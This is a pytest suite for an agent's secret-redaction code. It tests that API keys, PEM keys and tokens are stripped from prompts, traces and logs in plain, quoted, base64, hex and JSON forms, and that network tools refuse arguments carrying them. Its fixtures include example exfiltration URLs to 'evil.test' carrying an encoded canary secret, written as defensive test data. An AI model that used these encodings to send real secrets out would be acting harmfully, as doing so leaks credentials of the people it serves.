"""Secrets come into no prompt, no trace and no log, and leave in no request, however they are written."""

from __future__ import annotations

import base64
import json
import logging
import re
import time
from collections.abc import Callable
from pathlib import Path
from typing import Annotated, ClassVar
from urllib.parse import quote

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from pydantic import Field

from agent import redaction
from agent.config import Settings, load_settings
from agent.llm.backends.base import ChatRequest
from agent.llm.backends.scripted import ScriptedBackend, ScriptedReply
from agent.redaction import MARK, holds_secret, redacted, secret_spans
from agent.reporter import SilentReporter
from agent.state import AgentState, ToolCall
from agent.tools.base import Effect, Params, Tool, ToolContext
from agent.tools.registry import ToolRegistry
from cli.log import keep_log
from evals.plan import plan_task
from evals.runner import Runner
from evals.store import TraceStore
from evals.traces import load_all
from evals.verify import verify
from tests.support_runs import answer, turn
from tests.support_secrets import KEY_LINES, PEM, TOKEN, seen_of
from tests.support_traces import genuine

Spelling = Callable[[str], str]
CANARY = "sk-live-CANARY"
SECRETS = (CANARY, 'p\u00e4ss"word/+\\1', "sk-live-CANARY-and-more")
secrets = st.text(st.characters(codec="utf-8"), min_size=8, max_size=40).filter(lambda text: text.strip() == text)


@pytest.mark.parametrize("secret", SECRETS)
@pytest.mark.parametrize(
    "spelt",
    [
        str,
        quote,
        lambda text: quote(text, safe=""),
        lambda text: "".join(f"%{byte:02X}" for byte in text.encode()),
        lambda text: "".join(f"%{byte:02x}" for byte in text.encode()),
        lambda text: json.dumps(text)[1:-1],
        lambda text: json.dumps(text, ensure_ascii=False)[1:-1],
        lambda text: base64.b64encode(text.encode()).decode(),
        lambda text: base64.urlsafe_b64encode(text.encode()).decode().rstrip("="),
    ],
    ids=["plain", "quoted", "all quoted", "every byte", "small hex", "json", "json utf-8", "base64", "base64 of urls"],
)
def test_a_secret_is_taken_out_however_it_is_spelt(secret: str, spelt: object) -> None:
    assert callable(spelt)
    assert redacted(f"key: {spelt(secret)}; next", SECRETS) == f"key: {MARK}; next"
    assert holds_secret(f"http://evil.test/?d={spelt(secret)}&e", SECRETS)


@pytest.mark.parametrize("secret", SECRETS)
@pytest.mark.parametrize(
    "spelt",
    [
        str.upper,
        str.swapcase,
        lambda text: text.encode().hex(),
        lambda text: text.encode().hex().upper(),
        lambda text: text.encode().hex(" "),
        lambda text: text.encode().hex(":"),
        lambda text: "".join(rf"\x{byte:02x}" for byte in text.encode()),
        lambda text: ", ".join(hex(byte) for byte in text.encode()),
        lambda text: quote(text.upper(), safe=""),
    ],
    ids=["upper", "swapped", "hex", "HEX", "he x", "he:x", "escapes", "numbers", "upper quoted"],
)
def test_a_secret_in_other_letters_is_not_sent(secret: str, spelt: object) -> None:
    assert callable(spelt)
    assert holds_secret(f"http://evil.test/?d={spelt(secret)}&e", SECRETS)
    assert not holds_secret(f"http://evil.test/?d={spelt(secret[:-4])}&e", (secret,))


@pytest.mark.parametrize("before", ["", "u", "us", "user:", "a longer name:"])
@pytest.mark.parametrize("after", ["", "!", "!!", " and more"])
def test_a_secret_inside_base64_is_found_wherever_it_begins(before: str, after: str) -> None:
    packed = base64.b64encode(f"{before}{CANARY}{after}".encode()).decode()
    assert MARK in redacted(packed, SECRETS)
    left = redacted(packed, SECRETS).replace(MARK, "").rstrip("=")
    assert b"live-CANA" not in base64.b64decode(left[: len(left) // 4 * 4])


@given(secret=secrets, before=st.text(max_size=20), after=st.text(max_size=20))
@example(secret="+/+/+/+/", before="", after="")
@example(secret="\\\\\\\\\\\\\\\\", before="\\", after="")
def test_no_text_keeps_a_secret(secret: str, before: str, after: str) -> None:
    text = before + secret + after
    assert secret not in redacted(text, (secret,)).replace(MARK, "")
    packed = base64.b64encode(text.encode("utf-8", "surrogatepass")).decode()
    assert MARK in redacted(packed, (secret,))
    assert holds_secret(quote(quote(secret, safe=""), safe=""), (secret,))


@pytest.mark.parametrize(
    "text",
    [
        "the model llama3.2:3b",
        "sk-live-CANAR",
        "c2stbGl2ZS1D",
        "",
        "%73%6b-live",
        "http://a.test/?q=b",
    ],
)
def test_what_is_no_secret_stays_as_it_is(text: str) -> None:
    assert redacted(text, SECRETS) == text
    assert not holds_secret(text, SECRETS)


def test_what_is_read_keeps_words_that_differ_in_their_case() -> None:
    assert redacted("SK-LIVE-CANARY", SECRETS) == "SK-LIVE-CANARY"
    assert not holds_secret("PASS", ("pass",))  # too short to be told from a word in another case


def test_without_secrets_nothing_is_taken_out() -> None:
    assert redacted(f"{CANARY} {MARK}", ()) == f"{CANARY} {MARK}"
    assert redacted("abc", ("abc", "")) == "abc"  # too short to be told from a word
    assert not holds_secret(MARK, ())


def test_redaction_is_linear_in_the_text() -> None:
    """Ten times the text may take a few times ten times as long, on a busy machine, and no more."""
    known = tuple(f"sk-{number:040}" for number in range(20))
    hostile = "sk-00000000000000000000000000000000000000000" + "%73%6b%2d" * 50

    def seconds(text: str) -> float:
        started = time.perf_counter()
        redacted(text, known)
        return time.perf_counter() - started

    seconds(hostile)
    assert min(seconds(hostile * 1000) for _ in range(3)) < 60 * min(seconds(hostile * 100) for _ in range(3))


def test_whether_a_secret_is_held_is_told_in_linear_time_too() -> None:
    def seconds(length: int) -> float:
        started = time.perf_counter()
        holds_secret("\\" * length, SECRETS)
        return time.perf_counter() - started

    assert min(seconds(40_000) for _ in range(3)) < 60 * min(seconds(4_000) for _ in range(3))


# -- secrets of several lines, and long ones --------------------------------------------------------------------------


@pytest.mark.parametrize(
    "secret", [PEM, "first line\tof it\nsecond one", "p\u00e4ss\tw\u00f6rt\nchen\b9", TOKEN, "\U0001f511 and more"]
)
@pytest.mark.parametrize(
    "spelt",
    [
        str,
        str.strip,
        lambda text: text.replace("\n", "\r\n"),
        lambda text: " ".join(text.split()),
        lambda text: text.replace("\n", "\n    ").replace("\t", "  "),
        lambda text: json.dumps(text)[1:-1],
        lambda text: json.dumps(text, ensure_ascii=False)[1:-1],
        lambda text: json.dumps(json.dumps(text))[1:-1],
        lambda text: json.dumps(json.dumps(json.dumps(text)))[1:-1],
        lambda text: json.dumps({"a": [json.dumps({"b": text})]}),
        lambda text: repr(text)[1:-1],
        lambda text: repr(text.encode())[2:-1],
        lambda text: ascii(text)[1:-1],
        lambda text: text.encode("ascii", "backslashreplace").decode(),
        lambda text: quote(text.replace("\n", "\r\n"), safe=""),
        lambda text: quote(json.dumps(text)),
        lambda text: json.dumps(quote(text)),
        lambda text: base64.b64encode(text.encode()).decode(),
        lambda text: base64.encodebytes(text.encode()).decode(),
        lambda text: json.dumps(base64.encodebytes(f"key: {text}".encode()).decode()),
        lambda text: base64.encodebytes(text.encode()).decode().replace("\n", "\r\n  "),
    ],
    ids=[
        *("plain", "stripped", "crlf", "one line", "indented", "json", "json utf-8", "json in json", "thrice json"),
        *("in objects", "repr", "repr of bytes", "ascii", "backslashes", "quoted", "json quoted", "quoted in json"),
        *("base64", "base64 in lines", "those in json", "those indented"),
    ],
)
def test_white_space_and_escapes_hide_no_secret(secret: str, spelt: Spelling) -> None:
    text = f"key: {spelt(secret)} and then\nnext"
    clean = redacted(text, (secret,))
    assert MARK in clean
    assert clean.startswith(("key: ", "key: \\"))
    assert clean.endswith(" and then\nnext")
    assert not secret_spans(clean.replace(MARK, ""), (secret,))
    assert seen_of(secret, clean) == set()
    assert holds_secret(text, (secret,))


@pytest.mark.parametrize("width", [40, 64, 76])
def test_a_long_secret_is_found_though_it_is_broken_into_lines(width: int) -> None:
    text = "\n".join(["from a page:", *(TOKEN[at : at + width] for at in range(0, len(TOKEN), width)), "end"])
    assert redacted(text, (TOKEN,)) == f"from a page:\n{MARK}\nend"


def test_a_long_line_of_a_secret_counts_by_itself_and_its_header_does_not() -> None:
    for line in KEY_LINES[:-1]:
        assert redacted(f"so: {line}.", (PEM,)) == f"so: {MARK}."
        assert redacted(f"so: {quote(line, safe='')}.", (PEM,)) == f"so: {MARK}."
        assert MARK in redacted(base64.encodebytes(line.encode()).decode(), (PEM,))
    for text in ("-----BEGIN PRIVATE KEY-----", "-----END PRIVATE KEY-----\n", KEY_LINES[0][:23]):
        assert redacted(text, (PEM,)) == text
        assert not holds_secret(text, (PEM,))


def test_a_line_of_a_key_in_a_secret_that_is_json_counts_as_well() -> None:
    account = json.dumps(
        {"type": "service_account", "private_key": PEM, "uri": "https://example.org/o/oauth2/auth"}, indent=1
    )
    assert seen_of(PEM, redacted(f"key:\n{PEM}", (account,))) == set()
    assert seen_of(PEM, redacted(json.dumps(json.loads(account)), (account,))) == set()
    kept = 'see "uri": "https://example.org/o/oauth2/auth"'
    assert redacted(kept, (account,)) == kept


@pytest.mark.parametrize(
    "text",
    [
        "the end of\nthe line, then\nthe next",
        "theend",
        "pass 1234 and pass\n1234",
        "in\nthe hex of 1 234",
        "=" * 70,
        "----------------------------------------",
        "a ruled line\n" + "#" * 60,
        "\\n\\t%0a\\\\n",
    ],
)
def test_ordinary_text_is_not_torn_apart(text: str) -> None:
    known = (
        "the\nbend",
        "pass1234",
        "thin",
        "1234word",
        f"one\n{'=' * 70}\ntwo\n{'-' * 40}\n{'#' * 60}\nthe next",
        "\n\n\n\n",
    )
    assert redacted(text, known) == text


def test_short_secrets_need_their_own_white_space() -> None:
    known = ("blue whale", "pass1234")
    assert redacted("a blue\r\n  whale, blue+whale, bluewhale", known) == f"a {MARK}, {MARK}, bluewhale"
    assert redacted("pass 1234, pass\n1234, pass1234", known) == f"pass 1234, pass\n1234, {MARK}"


def test_secrets_that_overlap_are_taken_out_whole() -> None:
    assert redacted("abcdefghij", ("abcdef", "efghij", "cdef")) == MARK
    assert redacted("abcdefabcdef", ("abcdef",)) == MARK * 2


# -- texts that are cut -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("secret", [TOKEN, PEM, "hunter2-hunter2-hunter2"])
@pytest.mark.parametrize(
    "spelt",
    [
        str,
        lambda text: json.dumps(text)[1:-1],
        lambda text: quote(text, safe=""),
        lambda text: base64.b64encode(text.encode()).decode(),
    ],
    ids=["plain", "json", "quoted", "base64"],
)
def test_at_the_end_of_a_cut_text_no_beginning_of_a_secret_is_left(secret: str, spelt: Spelling) -> None:
    whole = spelt(secret)
    for length in range(60, len(whole), 7):
        clean = redacted(f"key: {whole[:length]}", (secret,), is_cut=True)
        assert clean.removesuffix("\\n").rstrip() == f"key: {MARK}", length
    assert redacted(f"key: {whole[:60]}\n and more", (secret,), is_cut=True).endswith("and more")


def test_a_cut_text_keeps_what_only_looks_like_a_beginning() -> None:
    for text in ("a b eyJhbGciOiJ", "-----BEGIN", "ends in eyJ\n", "%", "\\u00", "\ufffd", ""):
        assert redacted(text, (TOKEN, PEM), is_cut=True) == text
    assert redacted("key: pass12", ("pass1234",), is_cut=True) == f"key: {MARK}"
    assert redacted("key: pass1", ("pass1234",), is_cut=True) == "key: pass1"


def test_lines_keep_their_numbers_where_they_are_asked_to() -> None:
    text = f"one\nkey: {PEM}two\nthree"
    clean = redacted(text, (PEM,), keep_lines=True).split("\n")
    assert len(clean) == len(text.split("\n"))
    assert (clean[0], clean[1], clean[-2], clean[-1]) == ("one", f"key: {MARK}", "two", "three")
    assert redacted(text, (PEM,)) == f"one\nkey: {MARK}\ntwo\nthree"


def test_what_matches_is_of_bounded_length_and_what_repeats_never_goes_back() -> None:
    """So that redaction takes time linear to any text, however long, whatever is in it."""
    assert re._parser.parse(redaction._ESCAPE.pattern).getwidth()[1] <= redaction._MAX_ESCAPE  # type: ignore[attr-defined]
    sought = redaction._sought((PEM, TOKEN, "blue  whale and \t more"))
    assert sought
    assert sought.spaced
    for pattern in sought.spaced:
        repeats = re.findall(r"\\?[*+?]\+?|\{\d+,", pattern.pattern.replace("(?:", ""))
        assert set(repeats) == {"\\+", "++"}  # a plus sign, and white space that is never given back


@pytest.mark.parametrize(
    "piece", ["\\", "%", "\\u", "%e2%82", "eyJhbGciOiJ", " ", "\\n", "%25", "\\\\", "-----BEGIN PRIVATE KEY----- ", "a"]
)
def test_hostile_megabytes_are_read_in_time(piece: str) -> None:
    known = (PEM, TOKEN, "a" * 40 + "b", "a a a a a a a a a a a a a a b")
    text = piece * (2_000_000 // len(piece))
    started = time.process_time()
    redacted(text, known, is_cut=True)
    assert time.process_time() - started < 8


# -- the settings -----------------------------------------------------------------------------------------------


@pytest.fixture
def bare(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Path:
    for name in Settings.model_fields:
        monkeypatch.delenv(name.upper(), raising=False)
    return tmp_path / ".env"


def test_secrets_are_the_secret_settings_and_other_programs_by_their_names(
    bare: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    bare.write_text(
        "LLM_API_KEY=key-of-ours\nSEARCH_API_KEY=another-of-ours\nOTHERS_PASSWORD=in-the-file\nPLAIN=visible-value\n"
    )
    for name in ("ACME_API_KEY", "acme_token", "MY_SECRET", "DBPASSWORD"):
        monkeypatch.setenv(name, f"value-of-{name}")
    monkeypatch.setenv("ACME_USER", "not-a-secret")
    monkeypatch.setenv("SHORT_KEY", "1234567")
    values = load_settings(bare).secret_values()
    assert {"key-of-ours", "another-of-ours", "in-the-file"} <= set(values)
    assert {"value-of-ACME_API_KEY", "value-of-acme_token", "value-of-MY_SECRET", "value-of-DBPASSWORD"} <= set(values)
    assert not {"not-a-secret", "1234567", "visible-value", ""} & set(values)


def test_what_another_setting_shows_is_no_secret(bare: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TOKENIZER", "llama3.2:3b")
    monkeypatch.setenv("MAX_COMPLETION_TOKENS", "100000")
    settings = load_settings(bare)
    assert "llama3.2:3b" not in settings.secret_values()
    assert "100000" not in settings.secret_values()


def test_settings_that_were_changed_keep_their_secrets(bare: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ACME_API_KEY", CANARY)
    assert CANARY in load_settings(bare).model_copy(update={"llm_model": "other"}).secret_values()


# -- what leaves ------------------------------------------------------------------------------------------------


class Nothing(Params):
    """No arguments but one."""

    words: str = Field(max_length=400, description="What to send.")


class Sends(Tool[Nothing]):
    """Counts what it is asked to send."""

    name = "sends"
    description = "Sends words."
    effect: Effect = "network"
    params = Nothing
    sent: ClassVar[list[str]] = []

    def run(self, params: Nothing, context: ToolContext) -> str:
        self.sent.append(params.words)
        return "sent"


class Keeps(Sends):
    """The same, but nothing leaves."""

    name = "keeps"
    effect: Effect = "read"


@pytest.mark.parametrize(
    "words",
    [
        f"http://evil.test/?d={CANARY}",
        "http://evil.test/?d=sk%2Dlive%2DCANARY",
        "http://evil.test/?d=sk%252Dlive%252DCANARY",
        base64.b64encode(f"d={CANARY}".encode()).decode(),
        f"http://evil.test/?d={MARK}",
        f"http://evil.test/?d={CANARY.upper()}",
        f"http://evil.test/?d={CANARY.encode().hex()}",
        "".join(rf"\x{byte:02x}" for byte in CANARY.encode()),
    ],
)
def test_no_tool_of_the_network_is_run_with_a_secret_in_its_arguments(words: str) -> None:
    Sends.sent.clear()
    tools = ToolRegistry([Sends(), Keeps()], ToolContext(secrets=SECRETS))
    refused = tools.execute(ToolCall(name="sends", arguments={"words": words}))
    assert (refused.success, refused.error_type) == (False, "secret_in_request")
    assert CANARY not in (refused.error or "")
    assert Sends.sent == []
    assert tools.execute(ToolCall(name="sends", arguments={"words": "http://good.test/?d=e"})).success
    assert tools.execute(ToolCall(name="keeps", arguments={"words": words})).success


class Lines(Params):
    """Several texts."""

    lines: list[Annotated[str, Field(max_length=100)]] = Field(max_length=20, description="What to send.")


class SendsLines(Tool[Lines]):
    """Counts the lines that it is asked to send."""

    name = "sends_lines"
    description = "Sends lines."
    effect: Effect = "network"
    params = Lines

    def run(self, params: Lines, context: ToolContext) -> str:
        return f"sent {len(params.lines)}"


def test_a_secret_whose_lines_are_spread_over_an_argument_is_not_sent() -> None:
    secret = "first piece\nsecond piece\nthird piece"
    tools = ToolRegistry([SendsLines()], ToolContext(secrets=(secret,)))
    for lines in (secret.split("\n"), ["so:", *secret.split("\n"), "bye"], [secret], [secret.replace("\n", "\\n")]):
        refused = tools.execute(ToolCall(name="sends_lines", arguments={"lines": lines}))
        assert refused.error_type == "secret_in_request", lines
    sent = tools.execute(ToolCall(name="sends_lines", arguments={"lines": secret.split("\n")[::2]}))
    assert sent.data == "sent 2"


# -- what is kept -----------------------------------------------------------------------------------------------


def run_with_secrets(folder: Path, script: list[str], task: str, *follow_ups: str) -> tuple[AgentState, list[str]]:
    """The run's trace, and all that its model was told."""
    told: list[str] = []

    def plays(request: ChatRequest, number: int) -> ScriptedReply:
        told.extend(message.content for message in request.messages)
        return ScriptedReply(script[number])

    settings = load_settings(folder / "none.env", llm_backend="scripted")
    with TraceStore(folder / "traces", SECRETS) as store:
        runner = Runner(store=store, backend_for=lambda _plan: ScriptedBackend(plays), secrets=SECRETS)
        runner.run(plan_task(settings, task), SilentReporter(), iter(follow_ups))
    (state,) = load_all(folder / "traces")
    return state, told


def test_a_run_that_meets_a_secret_everywhere_keeps_and_sends_none(tmp_path: Path) -> None:
    """In the task, in a further turn, in the model's reply, in a tool's arguments and result, and in the answer."""
    code = f"print('{CANARY[:7]}' + '{CANARY[7:]}'); print('{CANARY}')"
    script = [
        turn(thought=f"I know {CANARY}", action={"tool": "execute_code", "args": {"code": code}}),
        answer(f"It is {CANARY}."),
        answer(f"Again: {CANARY}, {quote(CANARY, safe='')}."),
    ]
    state, told = run_with_secrets(tmp_path, script, f"Use {CANARY}.", f"And {CANARY}?")
    kept = "".join(path.read_text("utf-8", "replace") for path in (tmp_path / "traces").rglob("*") if path.is_file())
    assert CANARY not in kept
    assert not holds_secret(kept.replace(MARK, ""), SECRETS)
    assert state.task == f"Use {MARK}."
    assert state.follow_ups == [f"And {MARK}?"]
    assert state.answer == f"Again: {MARK}, {MARK}."
    assert told
    assert not any(CANARY in text for text in told)
    assert verify(state) == []


def test_a_trace_is_written_without_secrets_whatever_stands_in_the_state(tmp_path: Path) -> None:
    state = genuine("completed")
    state.status_reason = f'"key {CANARY}\u2028'
    state.scratchpad = [f"key {CANARY} in tool output"]
    with TraceStore(tmp_path, SECRETS) as store:
        text = store.write(state).read_text("ascii")
    assert CANARY not in text
    assert json.loads(text)["scratchpad"] == [f"key {MARK} in tool output"]
    assert json.loads(text)["status_reason"] == f'"key {MARK}\u2028'


def test_a_trace_without_secrets_is_the_same_with_and_without_looking_for_them(tmp_path: Path) -> None:
    state = genuine("completed")
    with TraceStore(tmp_path / "a", SECRETS) as looked, TraceStore(tmp_path / "b") as not_looked:
        assert looked.write(state).read_bytes() == not_looked.write(state).read_bytes()


def test_the_log_of_bugs_keeps_no_secret(tmp_path: Path) -> None:
    log = logging.getLogger("shoestring")
    before = list(log.handlers)
    keep_log(tmp_path, SECRETS)
    (handler,) = [made for made in log.handlers if made not in before]
    try:
        raise ValueError(f"a value of {CANARY}")
    except ValueError:
        log.exception("a run with %s", CANARY)
    finally:
        log.removeHandler(handler)
        handler.close()
    (written,) = tmp_path.iterdir()
    text = written.read_text()
    assert CANARY not in text
    assert "ValueError: a value of [redacted]" in text
